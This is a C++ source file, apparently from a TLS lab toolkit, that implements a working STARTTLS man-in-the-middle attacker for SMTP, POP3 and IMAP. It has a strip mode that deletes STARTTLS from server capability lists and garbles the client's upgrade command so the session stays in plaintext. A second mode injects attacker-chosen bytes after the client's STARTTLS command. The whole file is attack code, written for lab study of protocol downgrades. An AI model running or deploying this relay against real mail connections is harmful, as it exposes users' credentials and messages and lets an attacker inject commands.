#include "tlslab/endpoints/StarttlsAttacker.hpp"

#include <poll.h>
#include <sys/socket.h>

#include <algorithm>
#include <atomic>
#include <cctype>
#include <list>
#include <mutex>
#include <thread>
#include <utility>

#include "Socket.hpp"
#include "Workers.hpp"

namespace tlslab::endpoints {

namespace {

std::string upper(std::string s) {
  std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) { return std::toupper(c); });
  return s;
}

const char* protocolName(Starttls p) {
  switch (p) {
    case Starttls::Smtp: return "SMTP";
    case Starttls::Pop3: return "POP3";
    case Starttls::Imap: return "IMAP";
    case Starttls::None:
    default: return "TCP";
  }
}

// The client's upgrade command, without its CRLF: "STARTTLS", "STLS", "a001 STARTTLS".
bool isUpgradeCommand(Starttls p, const std::string& line) {
  const std::string u = upper(line);
  if (p == Starttls::Pop3) return u == "STLS";
  if (p == Starttls::Imap) return u.size() > 9 && u.substr(u.find(' ') + 1) == "STARTTLS";
  return u == "STARTTLS";
}

// The server's go-ahead for it (RFC 3207 §4: 220; RFC 2595 §4: +OK; RFC 9051 §6.2.1: tagged OK).
bool isGoAhead(Starttls p, const std::string& line) {
  if (p == Starttls::Pop3) return line.rfind("+OK", 0) == 0;
  if (p == Starttls::Imap) return line.find(" OK") != std::string::npos && line.rfind("* ", 0) != 0;
  return line.rfind("220 ", 0) == 0;
}

bool sendAll(int fd, const std::string& bytes) {
  std::size_t done = 0;
  while (done < bytes.size()) {
    const ssize_t n = ::send(fd, bytes.data() + done, bytes.size() - done, MSG_NOSIGNAL);
    if (n <= 0) return false;
    done += static_cast<std::size_t>(n);
  }
  return true;
}

// One victim connection: line by line until an upgrade, raw bytes after it.
class AttackRelay {
 public:
  AttackRelay(const StarttlsAttackConfig& config, StarttlsAttackSession& session, Recorder& recorder)
      : config_(config), session_(session), recorder_(recorder) {}

  void run(int victim, int server) {
    victim_ = victim;
    server_ = server;
    char buffer[16384];
    for (;;) {
      pollfd fds[2] = {{victim, POLLIN, 0}, {server, POLLIN, 0}};
      const int ready = ::poll(fds, 2, config_.ioTimeoutMs);
      if (ready <= 0) break;  // idle or interrupted: the attacker hangs up too
      for (int side = 0; side < 2; ++side) {
        if (!(fds[side].revents & (POLLIN | POLLHUP | POLLERR))) continue;
        const ssize_t n = ::recv(fds[side].fd, buffer, sizeof(buffer), 0);
        if (n <= 0) return;
        const std::string data(buffer, static_cast<std::size_t>(n));
        if (!(side == 0 ? fromClient(data) : fromServer(data))) return;
      }
    }
  }

 private:
  void act(const std::string& text) {
    session_.actions.push_back(text);
    recorder_.record(NoteEvent{nowUs(), "attacker: " + text});
  }

  void saw(const std::string& bytes, bool fromVictim) {
    (fromVictim ? session_.fromClient : session_.fromServer) += bytes;
    recorder_.record(AppDataEvent{nowUs(), false, toBytes(bytes), protocolName(config_.protocol)});
  }

  bool fromClient(const std::string& data) {
    if (session_.upgraded) {
      session_.tlsBytesRelayed += data.size();
      return sendAll(server_, data);
    }
    clientLines_ += data;
    for (std::size_t end; (end = clientLines_.find("\r\n")) != std::string::npos;) {
      std::string line = clientLines_.substr(0, end);
      clientLines_.erase(0, end + 2);
      saw(line + "\r\n", true);
      std::string out = line + "\r\n";
      if (isUpgradeCommand(config_.protocol, line)) {
        if (config_.mode == StarttlsAttackConfig::Mode::Strip) {
          const std::size_t word = upper(line).rfind(config_.protocol == Starttls::Pop3 ? "STLS" : "STARTTLS");
          out = line.substr(0, word) + std::string(line.size() - word, 'X') + "\r\n";
          act("garbled the client's " + line + " into " + out.substr(0, out.size() - 2) + ": the server will not know it");
        } else {
          out += config_.injected;
          act("appended " + std::to_string(config_.injected.size()) + " bytes to the client's " + line +
              ", in the same segment: " + config_.injected.substr(0, config_.injected.find("\r\n")));
          upgradeAsked_ = true;
        }
      }
      if (!sendAll(server_, out)) return false;
    }
    return clientLines_.size() < 64 * 1024;  // a "line" that never ends is not a mail protocol
  }

  bool fromServer(const std::string& data) {
    if (session_.upgraded) {
      session_.tlsBytesRelayed += data.size();
      return sendAll(victim_, data);
    }
    serverLines_ += data;
    for (std::size_t end; (end = serverLines_.find("\r\n")) != std::string::npos;) {
      std::string line = serverLines_.substr(0, end);
      serverLines_.erase(0, end + 2);
      saw(line + "\r\n", false);
      if (!forwardServerLine(line)) return false;
      if (upgradeAsked_ && isGoAhead(config_.protocol, line)) {
        session_.upgraded = true;  // from here on the bytes are TLS: relayed, not read
        act("the server agreed to STARTTLS: relaying the TLS bytes from now on, unread");
        if (!serverLines_.empty() && !sendAll(victim_, serverLines_)) return false;
        session_.tlsBytesRelayed += serverLines_.size();
        serverLines_.clear();
        break;
      }
    }
    return serverLines_.size() < 64 * 1024;
  }

  bool forwardServerLine(const std::string& line) {
    if (config_.mode != StarttlsAttackConfig::Mode::Strip) return sendAll(victim_, line + "\r\n");
    const std::string u = upper(line);
    if (config_.protocol == Starttls::Smtp) {
      // A multi-line reply is held until its last line, so removing a line can re-mark the end.
      if (u.size() >= 4 && u.substr(4) == "STARTTLS") {
        act("removed \"" + line + "\" from the server's EHLO answer");
        if (line[3] == ' ' && !smtpReply_.empty()) smtpReply_.back()[3] = ' ';
      } else {
        smtpReply_.push_back(line);
      }
      if (line.size() >= 4 && line[3] == '-') return true;
      std::string reply;
      for (const auto& l : smtpReply_) reply += l + "\r\n";
      smtpReply_.clear();
      return sendAll(victim_, reply);
    }
    if (config_.protocol == Starttls::Pop3 && u == "STLS") {
      act("removed STLS from the server's CAPA list");
      return true;
    }
    std::string out = line;
    if (config_.protocol == Starttls::Imap && u.find("CAPABILITY") != std::string::npos) {
      if (const std::size_t at = u.find(" STARTTLS"); at != std::string::npos) {
        out.erase(at, 9);
        act("removed STARTTLS from the server's capabilities: " + out);
      }
    }
    return sendAll(victim_, out + "\r\n");
  }

  const StarttlsAttackConfig& config_;
  StarttlsAttackSession& session_;
  Recorder& recorder_;
  int victim_ = -1, server_ = -1;
  std::string clientLines_, serverLines_;
  std::vector<std::string> smtpReply_;
  bool upgradeAsked_ = false;
};

}  // namespace

struct StarttlsAttacker::Impl {
  StarttlsAttackConfig config;
  Observer observer;
  Fd listenFd;
  std::uint16_t port = 0;
  std::atomic<bool> running{true};
  std::thread acceptThread;
  mutable std::mutex mutex;
  // A thread that has returned keeps its stack until joined: the accept loop
  // joins finished ones, so a long run does not keep one per victim.
  struct Worker {
    std::thread thread;
    std::atomic<bool> done{false};
  };
  std::list<Worker> workers;
  std::vector<int> open;  // victim sockets still being served (shut down by stop())
  std::vector<StarttlsAttackSession> finished;  // not taken yet
  std::size_t finishedTotal = 0;
  std::vector<std::string> notes;  // the accept loop's own, not taken yet

  void serve(Fd victim) {
    StarttlsAttackSession session;
    session.peer = peerName(victim.get());
    Recorder recorder(Role::ProxyFront, observer, config.window);
    Connection server = connectTo(config.targetAddress, config.targetPort, config.ioTimeoutMs);
    if (!server.fd) {
      session.error = "the attacker could not reach the server: " + server.error;
      // Each victim costs two descriptors: the limit is often met here, after
      // accept() got the victim's, so say it like the accept loop does.
      if (server.socketErrno == EMFILE || server.socketErrno == ENFILE) noteOutOfDescriptors(server.socketErrno);
    } else {
      setNoDelay(victim.get());
      setNoDelay(server.fd.get());
      AttackRelay(config, session, recorder).run(victim.get(), server.fd.get());
    }
    session.events = recorder.events();
    session.dropped = recorder.dropped();
    std::lock_guard lock(mutex);
    open.erase(std::remove(open.begin(), open.end(), victim.get()), open.end());
    finished.push_back(std::move(session));
    ++finishedTotal;
  }

  void noteOutOfDescriptors(int error) {
    std::lock_guard lock(mutex);
    if (saidUpstreamOutOfDescriptors) return;
    saidUpstreamOutOfDescriptors = true;
    notes.push_back(std::string("cannot open a connection to the server: ") +
                    (error == EMFILE ? "out of file descriptors (EMFILE)" : "the system is out of file descriptors (ENFILE)") +
                    "; victims are dropped until descriptors are free");
  }
  bool saidUpstreamOutOfDescriptors = false;  // guarded by mutex

  void acceptLoop() {
    bool saidNoDescriptors = false;
    while (running) {
      const int fd = ::accept4(listenFd.get(), nullptr, nullptr, SOCK_CLOEXEC);
      if (fd < 0) {
        if (!running) break;
        if (std::string why = backOffAfterAcceptError(errno); !why.empty() && !saidNoDescriptors) {
          saidNoDescriptors = true;
          std::lock_guard lock(mutex);
          notes.push_back(std::move(why));
        }
        continue;
      }
      saidNoDescriptors = false;
      std::lock_guard lock(mutex);
      joinFinishedWorkers(workers);
      open.push_back(fd);
      Worker& worker = workers.emplace_back();
      worker.thread = std::thread([this, fd, &worker] {
        serve(Fd(fd));
        worker.done = true;
      });
    }
  }
};

pki::Result<std::unique_ptr<StarttlsAttacker>> StarttlsAttacker::start(const StarttlsAttackConfig& config, Observer observer) {
  using R = pki::Result<std::unique_ptr<StarttlsAttacker>>;
  if (config.protocol == Starttls::None) return R::failure("the STARTTLS attacker needs smtp, pop3 or imap");
  ignoreSigpipe();
  auto impl = std::make_unique<Impl>();
  impl->config = config;
  impl->observer = std::move(observer);
  Listener listener = listenOn(config.listenAddress, config.listenPort);
  if (!listener.fd) return R::failure(listener.error);
  impl->listenFd = std::move(listener.fd);
  impl->port = listener.port;
  Impl* raw = impl.get();
  impl->acceptThread = std::thread([raw] { raw->acceptLoop(); });
  return R::success(std::unique_ptr<StarttlsAttacker>(new StarttlsAttacker(std::move(impl))));
}

StarttlsAttacker::StarttlsAttacker(std::unique_ptr<Impl> impl) : impl_(std::move(impl)) {}
StarttlsAttacker::~StarttlsAttacker() { stop(); }

std::uint16_t StarttlsAttacker::port() const { return impl_->port; }

void StarttlsAttacker::stop() {
  if (!impl_->running.exchange(false)) return;
  ::shutdown(impl_->listenFd.get(), SHUT_RDWR);
  if (impl_->acceptThread.joinable()) impl_->acceptThread.join();
  std::list<Impl::Worker> workers;
  {
    std::lock_guard lock(impl_->mutex);
    for (int fd : impl_->open) ::shutdown(fd, SHUT_RDWR);
    workers.swap(impl_->workers);
  }
  for (auto& w : workers) w.thread.join();
}

std::vector<StarttlsAttackSession> StarttlsAttacker::sessions() const {
  std::lock_guard lock(impl_->mutex);
  return impl_->finished;
}

std::size_t StarttlsAttacker::sessionCount() const {
  std::lock_guard lock(impl_->mutex);
  return impl_->finishedTotal;
}

std::vector<StarttlsAttackSession> StarttlsAttacker::takeSessions() {
  std::lock_guard lock(impl_->mutex);
  return std::exchange(impl_->finished, {});
}

std::vector<std::string> StarttlsAttacker::takeNotes() {
  std::lock_guard lock(impl_->mutex);
  return std::exchange(impl_->notes, {});
}

}  // namespace tlslab::endpoints
